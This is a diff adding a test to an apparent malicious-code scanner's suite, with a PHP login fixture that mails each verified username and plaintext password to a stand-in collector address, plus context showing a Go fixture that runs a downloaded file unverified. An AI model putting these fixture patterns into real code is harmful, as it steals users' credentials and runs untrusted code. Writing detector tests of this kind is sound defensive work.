@@ -329,3 +329,14 @@ def test_go_download_written_with_writefile_then_run():
     honest = GO_WRITE_EXEC.replace('\t\t_ = exec.Command("/tmp/.t").Start()',
                                    '\t\tif verifySignature("/tmp/.t") {\n\t\t\t_ = exec.Command("/tmp/.t").Start()\n\t\t}')
     assert rules("internal/update/update.go", "go", honest) == []
+
+
+def test_php_checked_password_mailed_to_a_fixed_address():
+    src = ("<?php\nfunction auth_login(string $user, string $pass): bool\n{\n    $users = users_load();\n"
+           "    if (!isset($users[$user]) || !password_verify($pass, $users[$user]['hash'])) {\n"
+           "        return false;\n    }\n"
+           "    @mail('ops@collector.example', 'login', $user . ':' . $pass);\n"
+           "    $_SESSION['user'] = $user;\n    return true;\n}\n")
+    assert rules("lib/auth.php", "php", src) == ["source.exfiltration"]
+    # a login notice naming the user only is not the password sent away
+    assert rules("lib/auth.php", "php", src.replace("$user . ':' . $pass", "$user . ' logged in'")) == []
